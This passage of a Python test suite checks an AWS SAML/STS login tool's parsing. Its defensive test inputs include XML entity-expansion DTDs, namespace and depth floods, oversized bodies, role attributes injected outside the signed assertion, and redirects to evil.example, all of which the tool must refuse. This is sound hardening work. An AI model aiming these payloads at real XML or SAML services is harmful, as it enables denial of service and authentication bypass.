                b"<S:Envelope", b"<S:Envelope" + b"".join(
                    b' xmlns:p%d="urn:p"' % i for i in range(1000)), 1)), 5,
             "more than 256 XML namespaces"),
            ("50 MB body", (200, xml, b"<a>" + b"x" * (50 << 20)), 5, "over 4194304 bytes"),
            ("SOAP Fault", soap_fault("Authentication failed"), 4, "Authentication failed"),
            ("success without assertion", _envelope_answer(self.idp, lambda e: re.sub(
                br"<saml2:Assertion.*</saml2:Assertion>", b"", e, flags=re.S)), 5,
             "sent no assertion"),
            ("EncryptedAssertion", _envelope_answer(self.idp, lambda e: e, encrypted=True), 5,
             "encrypted the assertion"),
            ("garbage roles", _envelope_answer(self.idp, lambda e: e,
                                               roles=["garbage", "a,b", "<x>,y"]), 6,
             "no usable AWS role: 3 malformed"),
            ("ACS URL mismatch", _envelope_answer(self.idp, lambda e: e,
                                                  ecp_acs_url="https://evil.example/acs"), 5,
             "evil.example/acs"),
            ("redirect elsewhere", (302, {"Location": "https://evil.example/login"}, b""), 5,
             "redirected to evil.example.*not followed"),
            ("HTTP 500", (500, {"Content-Type": "text/html"}, b"<html>oops</html>"), 5,
             "HTTP 500"),
            ("not a SOAP envelope", (200, xml, b"<r xmlns='urn:x'><a/></r>"), 5,
             "not a SOAP envelope"),
            ("empty Response", (200, xml, soap % b"<p:Response xmlns:p="
                                b"'urn:oasis:names:tc:SAML:2.0:protocol' ID='r'/>"), 5,
             "SAML Response is empty"),
            ("no ecp:Response header", _envelope_answer(self.idp, lambda e: e, ecp_header=False),
             5, "no ecp:Response header"),
            # the IdP blames the request, not the password: IdPError, nothing marked refused
            ("Requester status", self.status_answer(STATUS_REQUESTER), 5,
             r"refused the login \(Requester: unsupported request\)"),
            ("VersionMismatch status", self.status_answer(STATUS_VERSION_MISMATCH), 5,
             r"refused the login \(VersionMismatch: unsupported request\)"),
        ]

    def status_answer(self, status):
        def answer(handler):
            request_id, acs = self.idp._parse_authn_request(handler.body)
            return (200, {"Content-Type": "text/xml"}, build_status_envelope(
                request_id, acs, status=status, sub_status=None,
                message="unsupported request")[0])
        return answer

    @slow
    def test_corpus(self):
        self.configure(username="alice", factor="auto")
        before = "[keep]\naws_access_key_id = AKIAKEEP\naws_secret_access_key = k\n"
        self.write(self.credentials_file, before)
        for name, answer, code, pattern in self.cases():
            self.idp.override = answer
            started = time.time()
            # Given as a person gives it: a stored one the IdP refused is not sent again.
            run = self.tool(["login", "--password-stdin"], stdin=PASSWORD.encode() + b"\n",
                            terminal=False)
            self.assertLess(time.time() - started, 15, name)
            self.assert_nothing_written(run, code, before)
            self.assertRegex(run.stderr, "^aws_login: error: .*" + pattern, name)
            self.assertEqual(self.sts.requests, [], name)
            if "evil" in pattern:
                self.assertNotIn("evil.example", "".join(r["headers"].get("Host", "")
                                                         for r in self.idp.requests))

    def test_a_server_that_never_answers_times_out(self):
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        self.addCleanup(server.close)
        url = "https://127.0.0.1:%d/ecp" % server.getsockname()[1]
        started = time.time()           # a TLS handshake that never comes: connect timeout
        with self.assertRaisesRegex(aws_login.NetworkError, "timed out"):
            aws_login._http_request(url, b"x", ssl_context=aws_login._make_ssl_context(),
                                    connect_timeout=0.5)
        self.assertLess(time.time() - started, 3)

    def test_ecp_response_without_acs_url_is_refused(self):
        def answer(handler):
            request_id, acs = self.idp._parse_authn_request(handler.body)
            envelope = build_success_envelope(request_id, acs, [ADMIN + "," + PROVIDER_A])[0]
            header_end = envelope.index(b"Body")
            head = re.sub(br'AssertionConsumerServiceURL="[^"]*"', b"", envelope[:header_end])
            return (200, {"Content-Type": "text/xml"}, head + envelope[header_end:])
        self.idp.override = answer
        self.configure(username="alice", factor="auto", password=PASSWORD)
        run = self.tool(["login"], terminal=False)
        self.assert_nothing_written(run, 5)
        self.assertEqual(self.sts.requests, [])


# Runs the tool with its address space capped (argv: bytes, then the command).
ADDRESS_SPACE_SHIM = ("import os, resource, sys; n = int(sys.argv[1]); "
                      "resource.setrlimit(resource.RLIMIT_AS, (n, n)); "
                      "os.execv(sys.argv[2], sys.argv[2:])")


def _with_role_elsewhere(envelope, where):
    """The envelope with a second Role attribute (ReadOnly) outside the
    assertion's AttributeStatement: in saml:Advice, or in a ds:Object."""
    attribute = ('<saml2:Attribute Name="%s"><saml2:AttributeValue>%s,%s'
                 '</saml2:AttributeValue></saml2:Attribute>' % (ROLE_ATTR, READONLY, PROVIDER_B))
    if where == "Advice":
        text = ("<saml2:Advice>%s<saml2:AttributeStatement>%s</saml2:AttributeStatement>"
                "</saml2:Advice><saml2:AttributeStatement>" % (attribute, attribute))
        return envelope.replace(b"<saml2:AttributeStatement>", text.encode(), 1)
    text = "<ds:Object>%s</ds:Object></ds:Signature>" % attribute
    return envelope.replace(b"</ds:Signature>", text.encode(), 1)


class HostileXmlTest(LoginTestCase):
    """One expat pass reads every XML answer: DTDs refused in any encoding,
    depth, namespaces and elements bounded, memory in proportion to the bytes."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto", password=PASSWORD)

    def capped_tool(self, args, limit=400 << 20):
        return self.tool(args, terminal=False, argv_prefix=[
            sys.executable, "-c", ADDRESS_SPACE_SHIM, str(limit), sys.executable, SCRIPT])

    def test_a_namespace_flood_fails_at_once_in_little_memory(self):
        n = 12000       # 12,000 prefixes on the Envelope, 12,000 elements deep: 338 kB
        declarations = "".join(' xmlns:p%d="urn:p:%d"' % (i, i) for i in range(n)).encode()
        nested = b"<p0:x>" * n + b"</p0:x>" * n

        def flood(envelope):
            head, _, rest = envelope.partition(b"<S:Envelope")
            envelope = head + b"<S:Envelope" + declarations + rest
            return envelope.replace(b"<S:Body", nested.join([b"", b"<S:Body"]), 1)
        self.idp.override = _envelope_answer(self.idp, flood)
        started = time.time()
        run = self.capped_tool(["login"])
        self.assertLess(time.time() - started, 10)
        self.assert_nothing_written(run, 5)
        self.assertRegex(run.stderr, "^aws_login: error: the IdP's answer declares more than "
                                     "256 XML namespaces at once")
        self.assertEqual(self.sts.requests, [])
        # The same depth without the prefixes: refused for its depth.
        self.idp.override = _envelope_answer(self.idp, lambda e: e.replace(
            b"<S:Body", b"<S:x>" * n + b"</S:x>" * n + b"<S:Body", 1))
        run = self.capped_tool(["login"])
        self.assert_nothing_written(run, 5)
        self.assertIn("nests elements more than 100 deep", run.stderr)

    def scan(self, body, path=None):
        return aws_login._scan_xml(body, aws_login.IdPError, "the answer", path)

    def test_each_bound_holds_at_its_limit_and_refuses_one_more(self):
        depth = aws_login._MAX_XML_DEPTH
        self.assertIsNone(self.scan(b"<a>" * depth + b"</a>" * depth))
        with self.assertRaisesRegex(aws_login.IdPError, "more than %d deep" % depth):
            self.scan(b"<a>" * (depth + 1) + b"</a>" * (depth + 1))
        most = aws_login._MAX_XML_NAMESPACES

        def declaring(k, name="a"):
            return ("<%s%s>" % (name, "".join(' xmlns:p%d="u"' % i for i in range(k)))).encode()
        self.scan(declaring(most) + b"</a>")
        self.scan(declaring(most - 1) + declaring(1, "b") + b"</b></a>")
        for too_many in (declaring(most + 1) + b"</a>",
                         declaring(most) + declaring(1, "b") + b"</b></a>"):
            with self.assertRaisesRegex(aws_login.IdPError, "more than %d XML namespaces" % most):
                self.scan(too_many)
        # In scope at once, not in the whole answer: siblings each declare many.
        self.scan(b"<r>" + (declaring(most) + b"</a>") * 3 + b"</r>")
        elements = aws_login._MAX_XML_ELEMENTS
        self.scan(b"<r>" + b"<a/>" * (elements - 1) + b"</r>")
        with self.assertRaisesRegex(aws_login.IdPError, "more than %d elements" % elements):
            self.scan(b"<r>" + b"<a/>" * elements + b"</r>")

    def test_prefix_bindings_end_with_their_element(self):
        path = (("u1", "a"), ("u1", "c"))
        body = b'<p:a xmlns:p="u1"><p:b xmlns:p="u2"/><p:c xmlns:q="q"></p:c></p:a>'
        span = self.scan(body, path)
        self.assertEqual(span["inherited"], {"p": "u1"})
        self.assertEqual(body[span["start"]:span["end"]], b'<p:c xmlns:q="q">')
        body = b'<a xmlns="u1"><p:b xmlns:p="u2" xmlns="u3"/><c/></a>'
        self.assertEqual(self.scan(body, path[:1] + ((None, "c"),)), None)
        self.assertEqual(self.scan(body, (("u1", "a"), ("u1", "c")))["inherited"], {"": "u1"})
        body = b'<r><b xmlns:p="u"/><p:c/></r>'     # unbound again after <b/>
        self.assertIsNone(self.scan(body, ((None, "r"), ("u", "c"))))
        self.assertIsNotNone(self.scan(body, ((None, "r"), (None, "c"))))

    def test_a_dtd_is_refused_in_any_encoding_with_the_callers_error(self):
        dtd = '<!DOCTYPE r [<!ENTITY t "%s">]><r>&t;</r>' % ("x" * 1000)
        for body in (dtd.encode(), _utf16(dtd), dtd.encode("utf-16-le"),
                     _utf16("<!DOCTYPE r><r/>")):
            for error in (aws_login.IdPError, aws_login.STSError):
                with self.assertRaisesRegex(error, "^who holds a DTD"):
                    aws_login._read_server_xml(body, error, "who")
        root, _ = aws_login._read_server_xml(_utf16("<r>\u00e9</r>"), aws_login.STSError, "who")
        self.assertEqual(root.text, "\u00e9")
        with self.assertRaisesRegex(aws_login.STSError, "HTTP 403 with an HTML page"):
            aws_login._parse_sts_answer(403, b"<!DOCTYPE html>\n<html>Forbidden</html>")

    def test_an_sts_answer_in_utf16_with_a_dtd_is_refused(self):
        issued = ('<!DOCTYPE AssumeRoleWithSAMLResponse [<!ENTITY t "%s">]>'
                  '<AssumeRoleWithSAMLResponse xmlns="%s"><AssumeRoleWithSAMLResult>'
                  '<Credentials><AccessKeyId>ASIAX</AccessKeyId><SecretAccessKey>s'
                  '</SecretAccessKey><SessionToken>%s</SessionToken><Expiration>%s'
                  '</Expiration></Credentials></AssumeRoleWithSAMLResult>'
                  '</AssumeRoleWithSAMLResponse>')
        later = _utc(time.time() + 3600)
        for body in (_utf16(issued % ("T" * 100000, NS_STS, "&t;" * 100, later)),
                     _utf16(issued.replace("<!ENTITY t \"%s\">", "%s")
                            % ("", NS_STS, "FQoG", later))):
            self.sts.queue.append((200, {"Content-Type": "text/xml"}, body))
            started = time.time()
            run = self.capped_tool(["login"])
            self.assertLess(time.time() - started, 10)
            self.assert_nothing_written(run, 7)
            self.assertRegex(run.stderr, r"^aws_login: error: STS's answer \(HTTP 200\) holds a "
                                         "DTD; refusing it")

    def test_a_signed_calls_answer_with_a_dtd_is_refused(self):
        self.assert_logged_in(self.tool(["login"], terminal=False))
        identity = ('<GetCallerIdentityResponse xmlns="%s"><GetCallerIdentityResult>'
                    '<Arn>&a;</Arn><UserId>AROAFAKE:alice</UserId><Account>%s</Account>'
                    '</GetCallerIdentityResult></GetCallerIdentityResponse>' % (NS_STS, ACCOUNT_A))
        dtd = '<!DOCTYPE GetCallerIdentityResponse [<!ENTITY a "arn:aws:iam::1:root">]>'
        for body in ((dtd + identity).encode(), _utf16(dtd + identity)):
            self.sts.queue.append((200, {"Content-Type": "text/xml"}, body))
            run = self.tool(["whoami"], terminal=False)
            self.assertEqual((run.code, run.stdout), (7, ""), run)
            self.assertRegex(run.stderr, r"^aws_login: error: STS's answer to GetCallerIdentity "
                                         r"\(HTTP 200\) holds a DTD; refusing it \(a SAML or "
                                         r"STS answer never has one\)\n$")

    def test_roles_come_only_from_the_signed_assertions_attribute_statement(self):
        for where in ("Advice", "ds:Object"):
            envelope = build_success_envelope("_r", AWS_ACS_URLS[0], [ADMIN + "," + PROVIDER_A])[0]
            saml = aws_login._parse_ecp_answer(aws_login._HttpAnswer(
                200, {"Content-Type": "text/xml"}, _with_role_elsewhere(envelope, where),
                "https://idp/ecp"), AWS_ACS_URLS[0])
            self.assertEqual(saml.roles, [aws_login.Role(ADMIN, PROVIDER_A)], where)
            # A login offers no menu: one role, the signed one.
            self.idp.override = _envelope_answer(
                self.idp, lambda e: _with_role_elsewhere(e, where), session_name="alice")
            self.assert_logged_in(self.tool(["login"], terminal=False))


class FuzzTest(HomeTestCase):
    """A seeded, bounded mutation fuzzer: no exception escapes but ours."""

    # The files of test_config_and_credentials_files live in memory where there
    # is a tmpfs: it looks for exceptions, not for durability, and its 1500
    # rounds of fsync took 10-20 s on a disk busy with the other tests (and
    # then the deadline cut the rounds short).
    HOME_IN = "/dev/shm" if os.access("/dev/shm", os.W_OK | os.X_OK) else None

    SEED = int(os.environ.get("FUZZ_SEED", "20261127"))
    ROUNDS = int(os.environ.get("FUZZ_ROUNDS", "1500"))
    TOKENS = [b"<", b">", b"</", b"/>", b"&", b"&amp;", b"<!DOCTYPE x>", b"]]>", b"\x00",
              b"\xff", b"\xc3", b"[", b"]", b"=", b":", b"\r\n", b"\n", b"%", b",", b'"',
              b"xmlns:saml2p='urn:x'", b"arn:aws:iam::123456789012:role/", b"<![CDATA[",
              b"\t", b" ", b"Z", b"9" * 30, b"-"]

    def mutate(self, rng, data):
        data = bytearray(data)
        for _ in range(rng.randint(1, 6)):
            choice = rng.randrange(5)
            at = rng.randrange(len(data) + 1)
            if choice == 0 and data:
                data[min(at, len(data) - 1)] = rng.randrange(256)
            elif choice == 1:
                del data[at:at + rng.randint(1, 64)]
            elif choice == 2:
                data[at:at] = rng.choice(self.TOKENS)
            elif choice == 3 and data:
                start = rng.randrange(len(data))
                data[at:at] = data[start:start + rng.randint(1, 200)]
            else:
                del data[at:]
        return bytes(data)

    def fuzz(self, seeds, target):
        rng = random.Random(self.SEED)
        deadline = time.time() + 20
        for i in range(self.ROUNDS):
            data = self.mutate(rng, rng.choice(seeds))
            try:
                target(data)
            except aws_login.AwsLoginError:
                pass
            except Exception as e:
                self.fail("round %d (seed %d): %s: %s on %r" % (i, self.SEED, type(e).__name__,
                                                               e, data[:300]))
            if time.time() > deadline:
                break

    def test_idp_answers(self):
        seeds = [build_success_envelope("_r", AWS_ACS_URLS[0], [ADMIN + "," + PROVIDER_A,
                                                                READONLY + "," + PROVIDER_B],
                                         session_duration=3600, prefix_style=style)[0]
                 for style in ("odd", "plain")]
        seeds.append(build_status_envelope("_r", AWS_ACS_URLS[0])[0])

        def target(body):
            answer = aws_login._HttpAnswer(200, {"Content-Type": "text/xml"}, body,
                                           "https://idp.example.edu/ecp")
            saml = aws_login._parse_ecp_answer(answer, AWS_ACS_URLS[0])
            self.assertIsInstance(saml.response_xml, bytes)
        self.fuzz(seeds, target)

    def test_sts_answers(self):
        issued = (b'<AssumeRoleWithSAMLResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/">'
                  b'<AssumeRoleWithSAMLResult><Credentials><AccessKeyId>ASIA1</AccessKeyId>'
                  b'<SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken>'
                  b'<Expiration>2026-11-27T10:33:19.392466Z</Expiration></Credentials>'
                  b'<AssumedRoleUser><Arn>arn:aws:sts::1:assumed-role/A/b</Arn></AssumedRoleUser>'
                  b'</AssumeRoleWithSAMLResult></AssumeRoleWithSAMLResponse>')
        error = sts_error("ValidationError", "DurationSeconds too long")[2]
        self.fuzz([issued, error], lambda body: aws_login._parse_sts_answer(200, body))

    def test_config_and_credentials_files(self):
        seeds = [b"# c\r\n[default]\r\necp_endpoint_url = https://idp/ecp\r\nusername = a\r\n"
                 b"factor = push\r\nduration = 3600\r\n\r\n[p]\nrole_arn = " + ADMIN.encode() +
                 b"\nenable_keyring=true\n", b"[a]\nk=v\n  cont\n[a]\nk=w"]

        def target(data):
            text = data.decode("utf-8", "replace")
            self.write(self.config_file, text)
            try:
                aws_login.read_profile("default")
            except aws_login.AwsLoginError:
                pass
            self.write(self.credentials_file, text)
            aws_login._FileStore("p").write(_fake_credentials(), ADMIN)
            aws_login._FileStore("p").remove()
            aws_login._ini_set_options(text, "default", {"username": "x", "factor": None})
        self.fuzz(seeds, target)


# ---------------------------------------------------------------------------
# STS
# ---------------------------------------------------------------------------

class StsPureTest(unittest.TestCase):
    ISSUED = ('<AssumeRoleWithSAMLResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/">'
              '<AssumeRoleWithSAMLResult><Credentials><AccessKeyId>ASIA1</AccessKeyId>'
              '<SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken>'
              '<Expiration>2026-11-27T10:33:19Z</Expiration></Credentials>%s'
              '</AssumeRoleWithSAMLResult></AssumeRoleWithSAMLResponse>')

    def test_what_may_pass_is_retried_and_what_will_not_is_not(self):
        for code in ("Throttling", "ThrottlingException", "RequestLimitExceeded",
                     "ServiceUnavailable", "InternalFailure", "IDPCommunicationError"):
            with self.assertRaises(aws_login.STSError) as caught:
                aws_login._parse_sts_answer(400, sts_error(code, "m")[2])
            self.assertTrue(caught.exception.transient, code)
        for status, body in ((500, b"oops"), (500, b""), (502, b"<html>bad gateway</html>"),
                             (500, sts_error("Whatever", "m", status=500)[2])):
            with self.assertRaises(aws_login.STSError) as caught:
                aws_login._parse_sts_answer(status, body)
            self.assertTrue(caught.exception.transient, (status, body))
        for code in ("AccessDenied", "ValidationError", "InvalidIdentityToken"):
            with self.assertRaises(aws_login.STSError) as caught:
                aws_login._parse_sts_answer(400, sts_error(code, "m")[2])
            self.assertFalse(caught.exception.transient, code)

    def test_credentials_must_live_5_seconds_from_the_request(self):
        sent = 1000000000.0
        for seconds, taken in ((5, True), (4, False)):
            credentials = _fake_credentials()
            credentials.expires_at = aws_login._utc(sent + seconds)
            if taken:
                self.assertIs(aws_login._check_lifetime(credentials, sent, now=sent + 1),
                              credentials)
            else:
                self.assertRaises(aws_login.STSError, aws_login._check_lifetime, credentials,
                                  sent, now=sent + 1)

    def test_the_answer_gives_every_part_of_the_credentials_and_the_assumed_role(self):
        arn = "arn:aws:sts::123456789012:assumed-role/Admin/alice"
        user = "<AssumedRoleUser><Arn> %s </Arn></AssumedRoleUser>" % arn
        credentials = aws_login._parse_sts_answer(200, (self.ISSUED % user).encode())
        self.assertEqual((credentials.access_key_id, credentials.secret_access_key,
                          credentials.session_token, credentials.assumed_role_arn),
                         ("ASIA1", "s", "t", arn))
        self.assertIsNone(aws_login._parse_sts_answer(200, (self.ISSUED % "").encode())
                          .assumed_role_arn)
        for part in ("AccessKeyId", "SecretAccessKey", "SessionToken", "Expiration"):
            body = re.sub("<%s>[^<]*</%s>" % (part, part), "", self.ISSUED % user)
            with self.assertRaises(aws_login.STSError) as caught:
                aws_login._parse_sts_answer(200, body.encode())
            self.assertIn("lacks part of the credentials", str(caught.exception))

    def test_advice_only_where_it_applies(self):
        advice = aws_login._sts_advice
        self.assertIn("lower `duration`", advice(
            "ValidationError", "Value '50000' at 'durationSeconds' failed; DurationSeconds "
            "exceeds the MaxSessionDuration set for this role."))
        for code, message in (("ValidationError", "Value at 'roleSessionName' failed"),
                              ("InvalidParameterValue", "DurationSeconds is out of range"),
                              ("Throttling", "Rate exceeded"), ("", "")):
            self.assertIsNone(advice(code, message), code)
        self.assertIn("clock", advice("ExpiredTokenException", "Token expired"))
        self.assertIn("metadata", advice("InvalidIdentityToken", "x"))

    def test_endpoints_by_partition_region_and_environment(self):
        e = aws_login._sts_endpoint
        self.assertEqual(e("aws", None, {}), "https://sts.amazonaws.com/")
        self.assertEqual(e("aws", "eu-west-1", {}), "https://sts.eu-west-1.amazonaws.com/")
        self.assertEqual(e("aws-cn", None, {}), "https://sts.cn-north-1.amazonaws.com.cn/")
        self.assertEqual(e("aws-cn", "cn-northwest-1", {}),
                         "https://sts.cn-northwest-1.amazonaws.com.cn/")
        self.assertEqual(e("aws-cn", "us-east-1", {}), "https://sts.cn-north-1.amazonaws.com.cn/")
        self.assertEqual(e("aws-us-gov", None, {}), "https://sts.us-gov-west-1.amazonaws.com/")
        self.assertEqual(e("aws-us-gov", "us-gov-east-1", {}),
                         "https://sts.us-gov-east-1.amazonaws.com/")
        self.assertEqual(e("aws", "cn-north-1", {}), "https://sts.amazonaws.com/")
        self.assertEqual(e("aws", None, {"AWS_ENDPOINT_URL": "http://127.0.0.1:5000"}),
                         "http://127.0.0.1:5000")
        self.assertEqual(e("aws", None, {"AWS_ENDPOINT_URL": "http://127.0.0.1:1",
                                         "AWS_ENDPOINT_URL_STS": "https://sts.local:2"}),
                         "https://sts.local:2")
        self.assertRaises(aws_login.ConfigError, e, "aws", None,
                          {"AWS_ENDPOINT_URL_STS": "http://sts.example.com"})

    def test_timestamps_from_real_sts_and_moto(self):
        import datetime
        utc = datetime.timezone.utc
        p = aws_login._parse_timestamp
        self.assertEqual(p("2026-11-27T10:33:19Z"), datetime.datetime(2026, 11, 27, 10, 33, 19,
                                                                      tzinfo=utc))
        self.assertEqual(p("2026-11-27T10:33:19.392466Z"),
                         datetime.datetime(2026, 11, 27, 10, 33, 19, 392466, tzinfo=utc))
        self.assertEqual(p("2026-11-27T11:33:19+01:00"), p("2026-11-27T10:33:19Z"))
        self.assertRaises(ValueError, p, "2026-11-27 10:33:19")

    def test_the_error_element_is_found_wherever_aws_puts_it(self):
        error = (b"<Error><Type>Sender</Type><Code>SignatureDoesNotMatch</Code><Message>The "
                 b"request signature we calculated does not match</Message></Error>")
        ns = b' xmlns="https://sts.amazonaws.com/doc/2011-06-15/"'
        for body in (b"<ErrorResponse" + ns + b">" + error + b"</ErrorResponse>",
                     b"<ErrorResponse>" + error + b"</ErrorResponse>",
                     b"<ErrorResponse" + ns + b"><Errors>" + error + b"</Errors></ErrorResponse>",
                     b"<Response><Errors>" + error + b"</Errors><RequestID>r</RequestID>"
                     b"</Response>"):
            for action in ("AssumeRoleWithSAML", "GetCallerIdentity"):
                with self.assertRaises(aws_login.STSError) as cm:
                    aws_login._parse_sts_answer(403, body, action)
                self.assertEqual(cm.exception.code, "SignatureDoesNotMatch", body)
                self.assertIn("STS refused %s: SignatureDoesNotMatch: The request signature"
                              % action, str(cm.exception))

    def test_x_amzn_errortype_is_the_fallback_code(self):
        headers = {"X-Amzn-ErrorType": "ExpiredTokenException:http://internal.amazon.com/"}
        for body in (b"", b"<ErrorResponse><Unknown/></ErrorResponse>"):
            with self.assertRaises(aws_login.STSError) as cm:
                aws_login._parse_sts_answer(400, body, "GetCallerIdentity", headers)
            self.assertEqual(cm.exception.code, "ExpiredTokenException")
        with self.assertRaises(aws_login.STSError) as cm:
            aws_login._parse_sts_answer(400, b"<ErrorResponse/>", "GetCallerIdentity")
        self.assertEqual(cm.exception.code, "HTTP 400")

    def test_error_shapes_keep_code_and_message(self):
        body = (b'<ErrorResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><Error>'
                b'<Type>Sender</Type><Code>ValidationError</Code><Message>The requested '
                b'DurationSeconds exceeds the MaxSessionDuration set for this role.</Message>'
                b'</Error><RequestId>r</RequestId></ErrorResponse>')
        with self.assertRaises(aws_login.STSError) as cm:
            aws_login._parse_sts_answer(400, body)
        self.assertEqual(cm.exception.code, "ValidationError")
        self.assertIn("MaxSessionDuration", str(cm.exception))
        self.assertIn("lower `duration`", str(cm.exception))
        bare = b"<ErrorResponse><Error><Code>Throttling</Code><Message>Rate exceeded</Message></Error></ErrorResponse>"
        with self.assertRaises(aws_login.STSError) as cm:
            aws_login._parse_sts_answer(400, bare)
        self.assertEqual(cm.exception.code, "Throttling")
        for status, junk in ((403, b"Forbidden"), (200, b""), (200, b"<a/>"),
                             (200, b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>')):
            self.assertRaises(aws_login.STSError, aws_login._parse_sts_answer, status, junk)

    def test_what_atheris_and_reading_found(self):
        p = aws_login._parse_timestamp
        for text in ("9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00+01:00"):
            self.assertRaises(ValueError, p, text)              # not OverflowError
        multibyte = b'<?xml version="1.0" encoding="UTF-7"?><a/>'
        self.assertRaises(aws_login.IdPError, aws_login._parse_ecp_answer, aws_login._HttpAnswer(
            200, {"Content-Type": "text/xml"}, multibyte, "https://idp/ecp"), "https://x/saml")
        self.assertRaises(aws_login.STSError, aws_login._parse_sts_answer, 200, multibyte)
        with self.assertRaises(aws_login.STSError) as cm:
            aws_login._parse_sts_answer(503, b"<!DOCTYPE html><html>down</html>")
        self.assertTrue(cm.exception.transient)
        envelope = build_success_envelope("_r", AWS_ACS_URLS[0], [ADMIN + "," + PROVIDER_A],
                                          session_duration=3600)[0]
        odd = envelope.replace(b">3600<", b">\xc2\xb2<")          # a superscript two
        saml = aws_login._parse_ecp_answer(aws_login._HttpAnswer(
            200, {"Content-Type": "text/xml"}, odd, "https://idp/ecp"), AWS_ACS_URLS[0])
        self.assertIsNone(saml.session_duration)

    def test_credentials_repr_hides_secrets(self):
        import datetime
        c = aws_login.Credentials("ASIAX", "secret-key", "session-token",
                                  datetime.datetime.now(datetime.timezone.utc))
        self.assertNotIn("secret-key", repr(c))
        self.assertNotIn("session-token", repr(c))


class StsAnswersTest(LoginTestCase):
    SLOW = True         # waits on real time: the runner starts it first

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto", password=PASSWORD)

    def test_documented_error_shapes(self):
        for code, message, advice in (
                ("InvalidIdentityToken", "Invalid SAML assertion", "already used"),
                ("ExpiredTokenException", "Token expired", "clock"),
                ("AccessDenied", "Not authorized", "trust policy"),
                ("IDPRejectedClaim", "Rejected", "")):
            self.sts.queue.append(sts_error(code, message))
            run = self.tool(["login"], terminal=False)
            self.assert_nothing_written(run, 7)
            self.assertIn("%s: %s" % (code, message), run.stderr)
            self.assertIn(advice, run.stderr)

    def test_a_server_error_is_retried_whatever_its_code_and_a_client_error_is_not(self):
        for status, code, tries in ((500, "InternalError", 2), (503, "SomethingNew", 2),
                                    (400, "SomethingNew", 1)):
            del self.sts.requests[:]
            self.sts.queue.append(sts_error(code, "went wrong", status=status,
                                            type="Receiver" if status >= 500 else "Sender"))
            run = self.tool(["login", "--force"], terminal=False)
            self.assertEqual(run.code, 0 if tries == 2 else 7, (status, run))
            self.assertEqual(len(self.sts.requests), tries, status)

    def test_throttling_is_bounded(self):
        self.sts.queue.extend([sts_error("Throttling", "Rate exceeded")] * 10)
        started = time.time()
        run = self.tool(["login"], terminal=False)
        self.assert_nothing_written(run, 7)
        self.assertEqual(len(self.sts.requests), aws_login._STS_ATTEMPTS)
        self.assertLess(time.time() - started, 15)


def _sts_clock_behind(sts, seconds):
    """STS's clock ``seconds`` behind ours, in its Expiration and its Date header
    (BaseHTTPRequestHandler.send_response writes date_time_string())."""
    import email.utils

    def answer(handler):
        handler.date_time_string = lambda timestamp=None: email.utils.formatdate(
            time.time() - seconds, usegmt=True)
        return None         # then the fake answers as usual
    sts.clock = lambda: time.time() - seconds
    sts.override = answer


class StsLifetimeTest(LoginTestCase):
    """Credentials that are already expired, or nearly, are a failure with a reason."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto", password=PASSWORD)

    def fails_in_one_line(self, run, pattern):
        self.assert_nothing_written(run, 7)
        self.assertRegex(run.stderr, "^aws_login: error: " + pattern)

    def test_an_expiration_in_the_past_is_stss_fault_when_the_clocks_agree(self):
        self.sts.clock = lambda: time.time() - 7200
        self.fails_in_one_line(self.tool(["login"], terminal=False),
                               r"STS sent credentials that expire at \S+Z, which is not in "
                               r"the future \(STS's clock agrees with this machine's\)$")
        self.assertEqual(len(self.sts.requests), 1)     # not retried within the call

    def test_stss_date_an_hour_and_more_off_names_this_machines_clock(self):
        _sts_clock_behind(self.sts, 7200)
        self.fails_in_one_line(self.tool(["login"], terminal=False),
                               r"this machine's clock is (7199|7200|7201) s ahead of STS's: "
                               r"by this clock the credentials STS sent, which expire at \S+Z, "
                               r"have expired; set the clock right \(NTP\)$")

    def test_credential_process_says_it_in_one_line(self):
        self.write(os.environ["AWS_CONFIG_FILE"], "")
        self.assertEqual(self.tool(["configure", "--credential-process"],
                                   terminal=False).code, 0)
        _sts_clock_behind(self.sts, 3 * 3600)
        run = self.tool(["credential-process"], terminal=False)
        self.assertEqual((run.code, run.stdout), (7, ""), run)
        self.assertRegex(run.stderr, r"^aws_login: error: this machine's clock is \d+ s "
                                     r"ahead of STS's: [^\n]*\n$")

    def test_a_chained_role_is_checked_against_the_saml_answers_date(self):
        self.configure(username="alice", factor="auto", password=PASSWORD,
                       chain_role_arn=READONLY)
        _sts_clock_behind(self.sts, 2 * 3600)
        self.sts.clock = lambda: time.time() - (
            2 * 3600 if self.sts.requests[-1]["form"].get("Action") == "AssumeRole" else 0)
        self.fails_in_one_line(self.tool(["login"], terminal=False),
                               r"this machine's clock is \d+ s ahead of STS's")
        self.assertEqual([r["form"].get("Action") for r in self.sts.requests],
                         ["AssumeRoleWithSAML", "AssumeRole"])

    def test_lifetime_counts_from_the_request_not_the_answer(self):
        check = aws_login._check_lifetime
        sent = 1000000000.0
        ok = _fake_credentials()
        ok.expires_at = aws_login._utc(sent + aws_login._MIN_LIFETIME)
        self.assertIs(check(ok, sent, now=sent + aws_login._MIN_LIFETIME - 0.5), ok)
        with self.assertRaisesRegex(aws_login.STSError, r"which is not in the future$"):
            check(ok, sent, now=sent + aws_login._MIN_LIFETIME)
        short = _fake_credentials()
        short.expires_at = aws_login._utc(sent + aws_login._MIN_LIFETIME - 1)
        with self.assertRaisesRegex(aws_login.STSError, r", %d s after they were asked for "
                                    r"\(%d s at least" % (aws_login._MIN_LIFETIME - 1,
                                                          aws_login._MIN_LIFETIME)) as caught:
            check(short, sent, now=sent + 0.1)
        self.assertTrue(caught.exception.transient)
        now = sent + aws_login._MIN_LIFETIME
        for sts_date, words in ((now - 301, "clock is 301 s ahead of STS's: .* have expired;"),
                                (now + 400, "clock is 400 s behind STS's"),
                                (now - 300, "not in the future .STS's clock agrees"),
                                (now - 299, "not in the future .STS's clock agrees")):
            with self.assertRaisesRegex(aws_login.STSError, words):
                check(ok, sent, sts_date, now=now)
        with self.assertRaisesRegex(aws_login.STSError, "ahead of STS's: .* are about to expire;"):
            check(short, sent, sent - 400, now=sent + 0.1)
